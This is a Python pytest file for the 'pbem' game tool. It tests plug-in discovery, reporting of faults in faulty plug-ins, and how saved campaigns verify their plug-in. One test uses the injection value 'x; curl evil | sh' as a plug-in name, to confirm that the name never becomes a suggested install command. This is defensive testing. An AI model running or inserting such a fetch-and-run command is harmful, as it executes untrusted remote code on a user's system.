"""Games that others have installed: how they are found, and that what is wrong with one is told as
its own fault and hinders nothing else.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from pbem import plug_ins
from pbem.cli import run
from pbem.commands._faults import PROGRAM_FAULT
from pbem.faults import Fault, WrongCall
from pbem.library import registry
from pbem.storage import keys, save
from tests import ferry_game, shelf, toy_game
from tests.shelf import PAGES_GAME, ROOT
from tests.toy_game import FILES

Told = Callable[..., str]
Install = Callable[..., str]
NEXT = iter(range(1000))


@pytest.fixture
def install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Install:
    """`install({file: text or None}, name=..., version=..., entry=...)`: the toy as a plug-in under
    another game's name and prefix, its files changed so; the id of the game."""
    place = tmp_path / "site"
    place.mkdir()
    monkeypatch.syspath_prepend(str(place))

    def build(
        changes: Mapping[str, str | None] = {},
        game: str = "",
        name: str = "club-toy",
        version: str = "1.0",
        entry: str = "",
    ) -> str:
        number = next(NEXT)
        game, package = game or f"toy{number}", f"club_toy_{number}"
        texts = {**FILES, "templates/messages.yaml": "event.peace: It is over.\n", **changes}
        files = {path: text for path, text in texts.items() if text is not None}
        here = {path: text.replace("toy_war", game) for path, text in files.items()}
        toy_game.write(place, here, package)
        shelf.register(place, name, version, {game: entry or package})
        # What is found is kept by the search path.
        monkeypatch.syspath_prepend(str(tmp_path / f"path{number}"))
        return game

    return build


@pytest.fixture
def told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Told:
    """What a command prints that ends with this code, in a folder of its own."""
    folder = tmp_path / "table"
    folder.mkdir()
    monkeypatch.chdir(folder)

    def call(*arguments: str, code: int = 0) -> str:
        capsys.readouterr()
        given = run(arguments)
        printed = "\n".join(capsys.readouterr())
        assert given == code, printed
        return printed

    return call


# Found


def test_a_plug_in_is_listed_with_its_release_and_its_words(install: Install, told: Told) -> None:
    game = install()
    listed = told("games")
    assert f"{game} (TOY): Toy War (1901)\n  scenarios: summer, winter\n" in listed
    assert "  plug-in: club-toy 1.0\n" in listed
    assert "messages.yaml is not there" not in listed
    listed = json.loads(told("games", "--json").partition("\n]\n")[0] + "\n]")
    row = next(each for each in listed if each["id"] == game)
    assert (row["distribution"], row["version"]) == ("club-toy", "1.0")
    assert registry.find("TOY").id == game


def test_names_of_pbem_s_own_games_look_for_no_plug_in() -> None:
    code = (
        "import sys; from pbem import plug_ins; plug_ins._found = None;"
        "from pbem.library import registry; registry.load('aae');"
        "from pbem.words.catalogue import Words; Words('axis_allies_europe');"
        "from pbem.words.pages import environment; environment('axis_allies_europe', 'text');"
        "assert 'importlib.metadata' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True)


def test_a_quick_look_at_the_search_path_misses_no_plug_in(
    install: Install, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = [each for each in sys.path if not each.startswith(str(tmp_path))]
    for folder in ("empty", "archive", "egg"):
        (tmp_path / folder).mkdir()
    (tmp_path / "empty" / "other-1.0.dist-info").mkdir()
    entries = tmp_path / "empty" / "other-1.0.dist-info" / "entry_points.txt"
    entries.write_text("[console_scripts]\nother = other:main\n")
    (tmp_path / "archive" / "a.zip").write_bytes(b"PK")
    (tmp_path / "egg" / "a.egg").touch()
    looked = {
        each: plug_ins._may_bring(str(tmp_path / each))
        for each in ("empty", "not there", "archive", "archive/a.zip", "egg")
    }
    assert [each for each, is_seen in looked.items() if is_seen] == ["archive/a.zip", "egg"]
    install()
    assert plug_ins._may_bring(str(tmp_path / "site"))
    monkeypatch.setattr(sys, "path", [*own, str(tmp_path / "empty")])
    monkeypatch.setattr(sys, "meta_path", [*sys.meta_path, Finder()])
    assert plug_ins._may_be_any()


class Finder:
    """Something that finds distributions in a way of its own."""

    def find_spec(self, *told: object) -> None:
        """It finds no modules."""

    def find_distributions(self, *told: object) -> list[object]:
        """Whoever has this may bring a game."""
        return []


def test_a_distribution_that_is_there_twice_counts_once(
    install: Install, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    game = install(version="1.0")
    shelf.register(tmp_path / "older", "Club_Toy", "0.9", {game: "club_toy_old"})
    monkeypatch.syspath_prepend(str(tmp_path / "path"))
    sys.path.append(str(tmp_path / "older"))
    try:
        assert [each.version for each in plug_ins.by_game()[game]] == ["1.0"]
    finally:
        sys.path.remove(str(tmp_path / "older"))


def test_two_plug_ins_of_one_prefix_go_by_their_names(install: Install, told: Told) -> None:
    one, other = install(name="club-a"), install(name="club-b")
    assert registry.find(one).distribution == "club-a"
    assert registry.find(other).distribution == "club-b"
    with pytest.raises(WrongCall, match=f"Did you mean {other} or {one}"):
        registry.find("TOY")


# Wrong


def code(old: str, new: str) -> dict[str, str | None]:
    assert FILES["__init__.py"].count(old) == 1
    return {"__init__.py": FILES["__init__.py"].replace(old, new)}


FAULTY: dict[str, tuple[dict[str, str | None], str]] = {
    "import that fails": (code("from types", "import guns\nfrom types"), "/__init__.py, line 2: ModuleNotFoundError: No module named 'guns'"),
    "import that ends the program": (code("from types", "raise SystemExit(0)\nfrom types"), "/__init__.py, line 2: SystemExit: 0"),
    "not Python": (code("war = Flow", "war == = Flow"), ": SyntaxError: invalid syntax"),
    "no GAME": (code("GAME = Game(", "game = Game("), "/__init__.py: there is no GAME in it"),
    "other id": (code('id="toy_war"', 'id="toywar"'), "the id of GAME is 'toywar', and the entry point is called 'toy"),
    "contract broken": (code('root="war"', 'root="wars"'), "the root 'wars' is none of the flows war"),
    "replaceable that is not there": (code('reply_verbs=("say",)', 'reply_verbs=("say",), replaceable=("cards",)'), "`replaceable` of GAME names 'cards', and there is no data/cards.yaml"),
    "broken scenario": ({"scenarios/winter.yaml": "guns: 3\n"}, "/scenarios/winter.yaml: the key 'players' is missing"),
    "no YAML": ({"scenarios/winter.yaml": "guns: [3\n"}, "/scenarios/winter.yaml, line 2"),
    "data without a key": ({"data/areas.yaml": "name: [Land]\n"}, "KeyError: 'names'"),
    "no title": ({"TITLE": None}, "/TITLE: the game has no such file"),
    "prefix of pbem's own": ({"TITLE": "AAE Toy War (1901)\n"}, "the prefix AAE is that of axis_allies_europe already"),
}  # fmt: skip


@pytest.mark.parametrize(("changes", "said"), FAULTY.values(), ids=FAULTY)
def test_a_faulty_plug_in_is_told_as_its_own_fault_and_hinders_no_other(
    changes: dict[str, str | None], said: str, install: Install, told: Told
) -> None:
    game, sound = install(changes, name="club-bad", version="2.1"), install(name="club-good")
    listed = told("games")
    assert f"{game} cannot be played: club-bad 2.1: " in listed
    assert said in listed
    assert "a fault of that plug-in, not of pbem" in listed
    assert "`pip uninstall club-bad` takes it away." in listed
    assert f"{sound} (TOY)" in listed
    assert "axis-allies-europe (AAE)" in listed
    assert said in told("new", "war", game, code=1)
    assert "fault of pbem itself" not in told("new", "war", game, code=1)
    told("new", "war", sound, "--scenario", "winter")
    told("new", "europe", "aae")


ENTRIES = {
    "no such package": ("club_toy_nowhere", "there is no package club_toy_nowhere"),
    "package in one that is not there": ("club_toy_nowhere.toy", "No module named 'club_toy_nowhere'"),
    "object": ("club_toy:GAME", "an entry point for a game names its package"),
    "module that is no package": ("this", "there is no package this"),
    "package of another": ("json", "/TITLE: the game has no such file"),
}  # fmt: skip


@pytest.mark.parametrize(("entry", "said"), ENTRIES.values(), ids=ENTRIES)
def test_an_entry_point_that_leads_nowhere_is_told(
    entry: str, said: str, install: Install, told: Told
) -> None:
    game = install(entry=entry)
    listed = told("games")
    assert f"{game} cannot be played: club-toy 1.0: " in listed
    assert said in listed
    assert "axis-allies-europe (AAE)" in listed


@pytest.mark.parametrize("game", ["axis_allies_europe", "common", "wargame"])
def test_a_plug_in_takes_no_name_of_pbem(game: str, install: Install, told: Told) -> None:
    install(game=game)
    assert "A plug-in needs a name of its own" in told("games")
    assert registry.find("aae").distribution == ""
    told("new", "europe", "axis-allies-europe")


@pytest.mark.parametrize("game", ["Toy", "toy-war", "9toy"])
def test_a_name_that_is_none_is_told(game: str, install: Install, told: Told) -> None:
    install(game=game)
    assert f"'{game}' cannot be the name of a game" in told("games")


def test_two_distributions_with_one_game_are_both_named(install: Install, told: Told) -> None:
    game = install(name="club-a", version="1.0")
    install(game=game, name="club-b", version="3.2")
    listed = told("games")
    assert f"{game} cannot be played" in listed
    assert "two distributions bring this game: club-a 1.0 and club-b 3.2" in listed
    assert "two distributions bring this game" in told("new", "war", game, code=1)
    assert "axis-allies-europe (AAE)" in listed


def test_a_distribution_with_broken_entry_points_hinders_nobody(
    install: Install, tmp_path: Path, told: Told
) -> None:
    shelf.register(tmp_path / "site", "broken", "1.0", {})
    broken = tmp_path / "site" / "broken-1.0.dist-info" / "entry_points.txt"
    broken.write_text("[pbem.games]\nno equals sign\n")
    game = install()
    assert f"{game} (TOY)" in told("games")


def test_words_that_are_broken_are_told_with_the_plug_in(install: Install, told: Told) -> None:
    game = install({"templates/messages.yaml": "event.peace: {a: 1}\n"})
    listed = told("games")
    assert "club-toy 1.0: club_toy_" in listed
    assert "/templates/messages.yaml: event.peace has to be a text" in listed
    assert f"{game} (TOY)" in listed


def test_a_plug_in_without_words_is_told_where_they_belong(install: Install, told: Told) -> None:
    install({"templates/messages.yaml": None})
    assert "/templates/messages.yaml is not there: reports will show" in told("games")


def test_rules_that_fail_in_play_are_the_plug_in_s_fault(install: Install, told: Told) -> None:
    broken = code('return Over({"won": "nobody"})', 'return Over({"won": g.state["guns"] / 0})')
    game = install(broken)
    told("new", "war", game, "--scenario", "winter")
    printed = told("apply", code=PROGRAM_FAULT)
    assert "Error: club-toy 1.0: ZeroDivisionError: division by zero" in printed
    assert "a fault of that plug-in, not of pbem" in printed
    assert "fault of pbem itself" not in printed


def test_a_view_that_pbem_cannot_read_is_the_plug_in_s_fault(install: Install, told: Told) -> None:
    game = install(code("view=lambda g, seat: {}", "view=lambda g, seat: None"))
    told("new", "war", game, "--scenario", "winter")
    printed = told("report", code=PROGRAM_FAULT)
    assert "Error: club-toy 1.0: AttributeError" in printed
    assert "fault of pbem itself" not in printed


def test_a_template_that_fails_is_the_plug_in_s_fault(install: Install, told: Told) -> None:
    game = install({"templates/position.j2": "{{ view.nothing }}\n"})
    told("new", "war", game, "--scenario", "winter")
    printed = told("report", code=1)
    place = f"club_{game[:3]}_{game[3:]}/templates/position.j2, line 1"
    assert f"Error: club-toy 1.0: {place}: a template asks for what it is not given" in printed
    assert "a fault of that plug-in" in printed


# Campaigns


def founded(told: Told, game: str) -> Path:
    told("new", "war", game, "--scenario", "winter")
    return Path("war.pbem.yaml")


def test_the_anchor_names_distribution_and_version(install: Install, told: Told) -> None:
    anchor = save.open_save(founded(told, install())).anchor
    assert anchor["plugin"] == {"name": "club-toy", "version": "1.0"}
    assert "The game toy" in told("audit")


def test_a_campaign_without_its_plug_in_says_what_to_install(
    install: Install, told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = founded(told, install(name="club-toy", version="1.5"))
    monkeypatch.setattr(
        sys, "path", [each for each in sys.path if "site" not in Path(each).parts[-1:]]
    )
    for command in (["status"], ["report"], ["apply"], ["log"]):
        printed = told(*command, code=1)
        assert "is not installed here; it is a plug-in, club-toy 1.5" in printed
        assert "`pip install club-toy==1.5`" in printed
        assert "If you trust those who make it" in printed
    printed = told("audit", str(path), code=4)
    assert "club-toy 1.5, which is not installed here" in printed
    assert "pip install club-toy==1.5" in printed
    assert "documents hold" in printed


def edited(path: Path, game: str, **anchor: object) -> None:
    """The save founded anew with another anchor, by somebody who has the key."""
    opened = save.open_save(path)
    signer = keys.load(Path("war.pbem-private/moderator.key"))
    path.unlink()
    changed = {k: v for k, v in {**opened.anchor, "game": game, **anchor}.items() if v is not None}
    changed.pop("seal", None)
    save.create(path, changed, opened.state, signer)


CHANGED: dict[str, tuple[dict[str, object], str]] = {
    "of another distribution": (
        {"plugin": {"name": "club-other", "version": "2.0"}},
        "of club-other, and here it is that of club-toy. If you trust those who make it: `pip install club-other==2.0`",
    ),
    "of pbem": ({"plugin": None}, "of pbem, and here it is that of club-toy. Install the release that the save names: pbem "),
    "of other rules": ({"rules": 7}, "rules number 7 of Toy War (1901), and this version of club-toy has number 1. Install the release that the save names: club-toy 1.0."),
    "of other data": ({"board": "0" * 64}, "Install an unchanged club-toy 1.0"),
}  # fmt: skip


@pytest.mark.parametrize(("anchor", "said"), CHANGED.values(), ids=CHANGED)
def test_a_campaign_that_was_founded_with_something_else_is_refused(
    anchor: dict[str, object], said: str, install: Install, told: Told
) -> None:
    game = install()
    path = founded(told, game)
    edited(path, game, **anchor)
    assert said in told("status", code=1)


def test_another_spelling_of_the_distribution_is_the_same(install: Install, told: Told) -> None:
    game = install(name="Club.Toy")
    path = founded(told, game)
    edited(path, game, plugin={"name": "club_toy", "version": "1.0"})
    told("status")


def test_another_version_with_the_same_rules_plays_on_and_the_audit_names_both(
    install: Install, told: Told
) -> None:
    game = install(version="1.2")
    edited(founded(told, game), game, plugin={"name": "club-toy", "version": "1.0"})
    told("status")
    assert "of the plug-in club-toy 1.0; installed here is club-toy 1.2" in told("audit")


@pytest.mark.parametrize("name", ["x; curl evil | sh", "-r evil", "../evil", "", "a b"])
def test_what_the_save_calls_the_plug_in_is_no_command(
    name: str, install: Install, told: Told
) -> None:
    game = install()
    path = founded(told, game)
    edited(path, "gone", plugin={"name": name, "version": "1.0"})
    assert "==1.0" not in told("status", code=3)
    assert "==1.0" not in told("audit", code=1)


def test_the_page_s_game_has_its_words_and_templates_from_its_package(
    monkeypatch: pytest.MonkeyPatch, told: Told
) -> None:
    shelf.take(PAGES_GAME, monkeypatch)
    told("new", "evening", PAGES_GAME, "--accept-phrases")
    assert "Red: how many of your 10 chips do you bid?" in told("apply")
    assert "Red 10, Blue 10" in told("report")


def test_a_fault_of_pbem_beside_plug_ins_is_still_pbem_s(
    install: Install, told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    install()
    told("new", "europe", "aae")

    def fail(*_: object) -> None:
        raise RuntimeError("no")

    monkeypatch.setattr("pbem.commands.status.say", fail)
    assert "fault of pbem itself" in told("status", code=PROGRAM_FAULT)


def test_a_game_that_is_nowhere_is_no_fault_of_a_plug_in(install: Install) -> None:
    install()
    with pytest.raises(Fault, match="there is no game 'chess'"):
        registry.load("chess")


def ferry(old: str, new: str) -> dict[str, str | None]:
    """The files of the ferry with another line of code, and none of the toy's."""
    text = ferry_game.FILES["__init__.py"]
    assert text.count(old) == 1
    nothing: dict[str, str | None] = dict.fromkeys(FILES)
    return {**nothing, **ferry_game.FILES, "__init__.py": text.replace(old, new)}


def test_rules_that_are_not_the_same_twice_are_the_plug_in_s_fault(
    install: Install, told: Told
) -> None:
    unsteady = ferry('{"kind": "turn_began"}', '{"kind": "turn_began", "number": id(object())}')
    told("new", "war", install(unsteady, game="ferry"))
    printed = told("apply", code=1)
    assert "club-toy 1.0: record 1 (result) would not stand its audit" in printed
    assert "a fault of that plug-in, not of pbem" in printed
    assert "This is a fault of pbem," not in printed


def test_a_question_that_nobody_could_answer_is_the_plug_in_s_fault(
    install: Install, told: Told
) -> None:
    unknown = ferry('("go",), releases', '("fly",), releases')
    told("new", "war", install(unknown, game="ferry", version="1.1"))
    printed = told("apply", code=1)
    assert "club-toy 1.1: Ferry: the question" in printed
    assert "a fault of that plug-in, not of pbem" in printed
